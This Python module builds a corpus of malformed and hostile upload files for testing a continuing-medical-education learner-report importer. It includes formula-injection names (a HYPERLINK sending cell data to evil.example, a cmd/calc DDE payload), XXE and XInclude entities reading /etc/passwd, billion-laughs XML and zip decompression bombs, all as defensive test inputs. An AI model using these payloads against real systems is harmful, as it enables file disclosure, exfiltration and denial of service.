"""The bad-input corpus: how every file in `files/` was made, and the big files made at test time.

The files themselves are committed (so a reader sees the exact bytes under test); rebuild them
with `python -m tests.corpus.build`. Expectations live in `manifest.json`; the row builders in
`makers.py`.
"""

from __future__ import annotations

import codecs
import json
from collections.abc import Callable
from datetime import date
from pathlib import Path
from typing import Any

from tests.corpus.makers import (
    CLOSED_YEAR_ACTIVITY,
    CME_ONLY_ACTIVITY,
    DRAFT_ACTIVITY,
    FATIMA,
    HEADER,
    OSCAR,
    OTHER_PROVIDERS_ACTIVITY,
    PRIYA,
    REMS_ACTIVITY,
    REMS_HEADER,
    SOREN,
    XML_NAMESPACES,
    ZOE,
    cme_row,
    day,
    good_reports,
    good_rows,
    moc_row,
    nested_xml,
    padded_xlsx,
    png,
    records,
    records_xml,
    shared_strings_xlsx,
    txt,
    xlsx,
    xml,
    xml_report,
    zip_of,
)

CORPUS_DIR = Path(__file__).resolve().parent
FILES_DIR = CORPUS_DIR / "files"
MANIFEST = CORPUS_DIR / "manifest.json"

# ---- The committed files --------------------------------------------------------------------

BILLION_LAUGHS = (
    '<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n'
    + "".join(
        f' <!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">\n'
        for i in range(1, 10)
    )
    + "]>\n"
)


def _files() -> dict[str, Callable[[], bytes]]:
    rows = good_rows
    return {
        # Encodings and byte-order marks
        "valid_utf8.txt": lambda: txt(rows(3)),
        "utf8_bom.txt": lambda: txt(rows(3), bom=codecs.BOM_UTF8),
        "utf16le_bom_unicode_text.txt": lambda: txt(
            rows(3), encoding="utf-16-le", bom=codecs.BOM_UTF16_LE
        ),
        "utf16be_bom.txt": lambda: txt(rows(2), encoding="utf-16-be", bom=codecs.BOM_UTF16_BE),
        "utf16le_no_bom.txt": lambda: txt(rows(2), encoding="utf-16-le"),
        "latin1_names_cp1252.txt": lambda: txt(
            [cme_row(ZOE, day(10)), cme_row(PRIYA, day(11)), cme_row(SOREN, day(12))],
            encoding="cp1252",
        ),
        "utf8_accented_names.txt": lambda: txt(
            [cme_row(ZOE, day(10)), cme_row(PRIYA, day(11)), cme_row(SOREN, day(12))]
        ),
        "shift_jis_names.txt": lambda: txt(
            [*rows(2), cme_row(("ジョー", "山田", "01/02", "IL", "IL999999"), day(20))],
            encoding="shift_jis",
        ),
        "utf8_bom_twice.txt": lambda: txt(rows(2), bom=codecs.BOM_UTF8 * 2),
        # Not text at all
        "binary_renamed.txt": lambda: bytes(range(256)) * 8,
        "png_renamed.txt": png,
        "pdf_renamed.txt": lambda: b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n",
        "zip_renamed.txt": lambda: zip_of({"learners.txt": txt(rows(2))}),
        "xlsx_renamed.txt": lambda: xlsx([moc_row(day(100))]),
        "nul_bytes.txt": lambda: txt(rows(2)).replace(b"Oscar", b"Os\x00car"),
        "png_renamed.xml": png,
        "png_renamed.xlsx": png,
        "zip_renamed.xlsx": lambda: zip_of({"learners.txt": txt(rows(2))}),
        "xls_ole_renamed.xlsx": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504,
        "text_renamed.xlsx": lambda: txt(rows(2)),
        "truncated.xlsx": lambda: xlsx([moc_row(day(100))])[:700],
        # Empty and nearly empty
        "empty.txt": lambda: b"",
        "empty.xml": lambda: b"",
        "empty.xlsx": lambda: b"",
        "header_only.txt": lambda: txt([]),
        "header_only.xlsx": lambda: xlsx([]),
        "blank_lines_only.txt": lambda: b"\r\n\r\n\t\t\t\r\n\r\n",
        "header_and_blank_lines.txt": lambda: txt([]) + b"\r\n\t\t\r\n   \r\n",
        # Line ends, columns, quoting
        "mixed_line_endings.txt": lambda: b"".join(
            ("\t".join(cells) + end).encode()
            for cells, end in zip(
                [HEADER, *rows(4)], ["\r\n", "\n", "\r", "\r\n", "\n"], strict=True
            )
        ),
        "cr_only_old_mac.txt": lambda: txt(rows(3), newline="\r"),
        "trailing_blank_lines.txt": lambda: txt(rows(2)) + b"\r\n\r\n\r\n",
        "no_header.txt": lambda: txt(rows(3), header=None),
        "extra_columns.txt": lambda: txt(
            [[*r, "extra", "more"] for r in rows(2)], header=[*HEADER, "Notes", "More"]
        ),
        "missing_columns.txt": lambda: txt(
            [cme_row(OSCAR, day(30))[:9], moc_row(day(31))[:5]], header=HEADER[:9]
        ),
        "quoted_tabs.txt": lambda: txt(
            [*rows(2), cme_row(('"Fatima\tX"', "Duarte", "04/21", "AL", "AL100001"), day(40))]
        ),
        "quoted_newline_in_cell.txt": lambda: txt(
            [*rows(2), cme_row(FATIMA, day(41), first='"Fat\r\nima"')]
        ),
        "unclosed_quote.txt": lambda: txt([*rows(2), cme_row(FATIMA, day(42), first='"Fatima')]),
        "csv_renamed.txt": lambda: txt(rows(3), delimiter=","),
        # Comma-separated files, as Excel saves them (a .csv may be tab-delimited too)
        "valid_comma.csv": lambda: txt(rows(3), delimiter=",", bom=codecs.BOM_UTF8),
        "excel_us_cp1252.csv": lambda: txt(
            [cme_row(ZOE, day(10)), cme_row(PRIYA, day(11)), cme_row(SOREN, day(12))],
            encoding="cp1252",
            delimiter=",",
        ),
        "unicode_text_renamed.csv": lambda: txt(
            rows(3), encoding="utf-16-le", bom=codecs.BOM_UTF16_LE
        ),
        "semicolon_separated.csv": lambda: txt(rows(2), delimiter=";"),
        "png_renamed.csv": png,
        "xlsx_renamed.csv": lambda: xlsx([moc_row(day(100))]),
        "semicolon_separated.txt": lambda: txt(rows(2), delimiter=";"),
        "html_renamed.txt": lambda: (
            b"<!doctype html><html><body><table><tr><td>Add</td></tr></table></body></html>\n"
        ),
        "rems_header_as_board.txt": lambda: txt(
            [
                [
                    "Add",
                    REMS_ACTIVITY,
                    "10/01/2026",
                    "L-1",
                    "Physician",
                    "Pain",
                    "Individual",
                    "IL",
                    "0-5 years post training",
                    "N",
                ]
            ],
            header=REMS_HEADER,
        ),
        "excel_guidance_row.txt": lambda: txt(
            [
                [
                    "Required: Add or Delete",
                    "9 digits",
                    "MM/DD/YYYY",
                    "",
                    "",
                    "MM/DD",
                    "",
                    "",
                    "",
                    "",
                    "",
                    "",
                    "",
                    "",
                    "",
                    "",
                ],
                *rows(2),
            ],
        ),
        "report_reupload_with_error_columns.txt": lambda: txt(
            [[*r, "718", "No learner matches."] for r in rows(2)],
            header=[*HEADER, "Error Codes", "Error Messages"],
        ),
        "very_many_columns.txt": lambda: txt([*rows(2), cme_row(OSCAR, day(50)) + ["x"] * 5000]),
        # Row-level problems: good rows kept, bad rows reported
        "formula_injection_names.txt": lambda: txt(
            [
                *rows(2),
                cme_row(OSCAR, day(60), first='=HYPERLINK("http://evil.example/?x="&A1,"Click")'),
                cme_row(OSCAR, day(61), last="+1+1"),
                cme_row(OSCAR, day(62), first="@SUM(1+1)*cmd|' /C calc'!A0"),
                cme_row(OSCAR, day(63), last="-2+3"),
            ]
        ),
        "control_and_bidi_characters.txt": lambda: txt(
            [
                *rows(2),
                cme_row(OSCAR, day(70), first="Os\u202ecar"),
                cme_row(OSCAR, day(71), last="O\x07Keeffe"),
            ]
        ),
        "date_year_month_swapped_2026_13_01.txt": lambda: txt([*rows(1), moc_row("2026/13/01")]),
        "date_day_first_31_12_2026.txt": lambda: txt([*rows(1), moc_row("31/12/2026")]),
        "date_two_digit_year_12-31-26.txt": lambda: txt([*rows(1), moc_row("12-31-26")]),
        "date_word_yesterday.txt": lambda: txt([*rows(1), moc_row("yesterday")]),
        "date_excel_serial_in_txt.txt": lambda: txt([*rows(1), moc_row("45823")]),
        "date_february_30.txt": lambda: txt([*rows(1), moc_row("02/30/2026")]),
        "date_iso_accepted.txt": lambda: txt([*rows(1), moc_row("2025-07-04")]),
        "date_with_time_part.txt": lambda: txt([*rows(1), moc_row("07/05/2025 10:30:00")]),
        "date_future.txt": lambda: txt(
            [*rows(1), cme_row(OSCAR, "12/25/2026", activity=CME_ONLY_ACTIVITY)]
        ),
        "date_before_activity_start.txt": lambda: txt([*rows(1), moc_row("01/15/2025")]),
        "date_after_claim_date.txt": lambda: txt([*rows(1), moc_row("05/01/2026")]),
        "date_reporting_window_closed.txt": lambda: txt(
            [
                *rows(1),
                moc_row(
                    "03/15/2024",
                    activity=CLOSED_YEAR_ACTIVITY,
                    credits="6",
                    points="6",
                    type_points="6",
                ),
            ]
        ),
        "birth_date_invalid.txt": lambda: txt(
            [*rows(1), moc_row(day(80), dob="13/45"), moc_row(day(81), dob="")]
        ),
        "record_action_invalid.txt": lambda: txt(
            [*rows(1), moc_row(day(82), action="Update"), moc_row(day(83), action="")]
        ),
        "activity_unknown_and_other_providers.txt": lambda: txt(
            [
                *rows(1),
                moc_row(day(84), activity="999999999"),
                moc_row(day(85), activity=OTHER_PROVIDERS_ACTIVITY),
                moc_row(day(86), activity="12AB"),
            ]
        ),
        "activity_draft.txt": lambda: txt(
            [*rows(1), cme_row(OSCAR, "10/01/2026", activity=DRAFT_ACTIVITY)]
        ),
        "credits_invalid.txt": lambda: txt(
            [
                *rows(1),
                cme_row(OSCAR, day(87), credits="0.3"),
                cme_row(OSCAR, day(88), credits="11"),
                cme_row(OSCAR, day(89), credits="-1"),
            ]
        ),
        "board_unknown.txt": lambda: txt([*rows(1), moc_row(day(90), board="ABXYZ")]),
        "learner_unknown.txt": lambda: txt(
            [*rows(1), cme_row(("Nobody", "Known", "01/01", "IL", "000000000"), day(91))]
        ),
        "duplicate_moc_rows_in_file.txt": lambda: txt([moc_row(day(92)), moc_row(day(92))]),
        "delete_unknown_record.txt": lambda: txt([*rows(1), moc_row(day(93), action="Delete")]),
        "rems_valid.txt": lambda: txt(
            [
                [
                    "Add",
                    REMS_ACTIVITY,
                    "10/01/2026",
                    "L-1",
                    "Physician",
                    "Pain",
                    "Individual",
                    "IL",
                    "0-5 years post training",
                    "N",
                ],
                [
                    "Add",
                    REMS_ACTIVITY,
                    "10/02/2026",
                    "L-2",
                    "Dentist",
                    "Dentistry",
                    "None",
                    "WI",
                    "21+ years",
                    "Y",
                ],
            ],
            header=REMS_HEADER,
        ),
        "rems_bad_values.txt": lambda: txt(
            [
                [
                    "Add",
                    REMS_ACTIVITY,
                    "10/01/2026",
                    "L-1",
                    "Physician",
                    "Pain",
                    "Individual",
                    "IL",
                    "0-5 years post training",
                    "N",
                ],
                [
                    "Add",
                    REMS_ACTIVITY,
                    "10/02/2026",
                    "L-2",
                    "Astronaut",
                    "Pain",
                    "Individual",
                    "IL",
                    "0-5 years post training",
                    "N",
                ],
                [
                    "Add",
                    REMS_ACTIVITY,
                    "10/03/2026",
                    "L-3",
                    "",
                    "Pain",
                    "Individual",
                    "IL",
                    "0-5 years post training",
                    "N",
                ],
            ],
            header=REMS_HEADER,
        ),
        # XML
        "valid.xml": lambda: xml(good_reports(2)),
        "xml_bad_rows.xml": lambda: xml(
            [
                *good_reports(1),
                xml_report("ccid:corpus:bad-activity", activity="999999999"),
                xml_report("ccid:corpus:bad-date", completed="2025-02-30"),
                xml_report("ccid:corpus:formula", given='=HYPERLINK("http://evil.example","x")'),
            ]
        ),
        "xml_utf16_bom.xml": lambda: xml(
            good_reports(1), prolog='<?xml version="1.0" encoding="UTF-16"?>\n', encoding="utf-16"
        ),
        "xml_latin1_declared.xml": lambda: xml(
            [
                xml_report(
                    "ccid:corpus:zoe",
                    given="Zoë",
                    family="Abara",
                    birth="1950-05-13",
                    ids=(("CA", "CA100004"),),
                    credits=(("AMA PRA Category 1", "2"),),
                )
            ],
            prolog='<?xml version="1.0" encoding="ISO-8859-1"?>\n',
            encoding="latin-1",
        ),
        "xxe_local_file.xml": lambda: xml(
            [xml_report("ccid:corpus:xxe", given="&xxe;")],
            doctype='<!DOCTYPE accme:ACCMELearnerReports [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n',
        ),
        "xxe_network.xml": lambda: xml(
            [xml_report("ccid:corpus:xxe", given="&xxe;")],
            doctype='<!DOCTYPE accme:ACCMELearnerReports [<!ENTITY xxe SYSTEM "http://127.0.0.1:9/secret">]>\n',
        ),
        "xxe_parameter_entity.xml": lambda: xml(
            good_reports(1),
            doctype='<!DOCTYPE r [<!ENTITY % remote SYSTEM "http://127.0.0.1:9/evil.dtd"> %remote;]>\n',
        ),
        "external_dtd.xml": lambda: xml(
            good_reports(1),
            doctype='<!DOCTYPE accme:ACCMELearnerReports SYSTEM "http://127.0.0.1:9/learners.dtd">\n',
        ),
        "billion_laughs.xml": lambda: xml(
            [xml_report("ccid:corpus:lol", given="&lol9;")], prolog=BILLION_LAUGHS
        ),
        "doctype_internal_only.xml": lambda: xml(
            good_reports(1), doctype="<!DOCTYPE accme:ACCMELearnerReports []>\n"
        ),
        "wrong_namespace_v2.xml": lambda: xml(
            good_reports(1),
            namespaces=XML_NAMESPACES.replace("ACCMELearnerReports/v3/", "ACCMELearnerReports/v2/"),
        ),
        "no_namespaces.xml": lambda: (
            b'<?xml version="1.0"?>\n<ACCMELearnerReports><ActivityReports><ActivityReport>'
            b"</ActivityReport></ActivityReports></ACCMELearnerReports>\n"
        ),
        "wrong_root_element.xml": lambda: xml(good_reports(1), root="accme:LearnerReports"),
        "no_activity_reports.xml": lambda: xml([]),
        "malformed_truncated.xml": lambda: xml(good_reports(2))[:-60],
        "plain_text_renamed.xml": lambda: txt(rows(2)),
        "xinclude.xml": lambda: xml(
            [
                xml_report("ccid:corpus:xi").replace(
                    "<n:GivenName>Jane</n:GivenName>",
                    '<n:GivenName><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/></n:GivenName>',
                )
            ]
        ),
        # Excel
        "valid.xlsx": lambda: xlsx(rows(3)),
        "xlsx_date_cells.xlsx": lambda: xlsx(
            [
                [*moc_row()[:2], date(2025, 6, 20), *moc_row()[3:]],
                [*cme_row(OSCAR)[:2], date(2025, 6, 21), *cme_row(OSCAR)[3:]],
            ]
        ),
        "xlsx_bad_rows.xlsx": lambda: xlsx(
            [
                *rows(2),
                moc_row("02/30/2026"),
                cme_row(OSCAR, day(95), first='=HYPERLINK("http://evil.example","x")'),
            ]
        ),
        "xlsx_numbers_as_numbers.xlsx": lambda: xlsx(
            [
                [
                    c if i not in (1, 8, 10, 11, 13) else (int(c) if c.isdigit() else c)
                    for i, c in enumerate(moc_row(day(96)))
                ]
            ]
        ),
    }


FILES = _files()


# ---- Made at test time (too big, or too repetitive, to commit) -----------------------------

GENERATED: dict[str, Callable[[], bytes]] = {
    "records_2500.txt": lambda: records(2500),
    "records_2501.txt": lambda: records(2501),
    "records_2501.xml": lambda: records_xml(2501),
    "field_100kb.txt": lambda: txt([*good_rows(2), cme_row(OSCAR, day(97), first="A" * 100000)]),
    "field_2mb.txt": lambda: txt([*good_rows(2), cme_row(OSCAR, day(98), last="B" * 2000000)]),
    "line_of_5mb_without_tabs.txt": lambda: b"x" * 5_000_000 + b"\r\n",
    "larger_than_10mb.txt": lambda: txt(good_rows(2)) + b"\r\n" * 5_300_000,
    "nested_10000_levels.xml": lambda: nested_xml(10_000),
    "decompression_bomb.xlsx": lambda: padded_xlsx(400_000_000),
    "inflates_to_100mb.xlsx": lambda: padded_xlsx(100_000_000),
    "inflates_to_15mb.xlsx": lambda: padded_xlsx(15_000_000),
    "shared_strings_bomb.xlsx": lambda: shared_strings_xlsx(12_000_000),
}


def corpus_bytes(name: str) -> bytes:
    """The bytes of a corpus entry: from `files/`, or made now for the generated ones."""
    if name in GENERATED:
        return GENERATED[name]()
    return (FILES_DIR / name).read_bytes()


def manifest() -> dict[str, Any]:
    """The manifest: `today` and `provider` the expectations assume, and one entry per upload."""
    return json.loads(MANIFEST.read_text(encoding="utf-8"))


def main() -> None:
    import django

    django.setup()
    FILES_DIR.mkdir(exist_ok=True)
    for name, make in FILES.items():
        (FILES_DIR / name).write_bytes(make())
    print(f"wrote {len(FILES)} files to {FILES_DIR}")


if __name__ == "__main__":
    main()
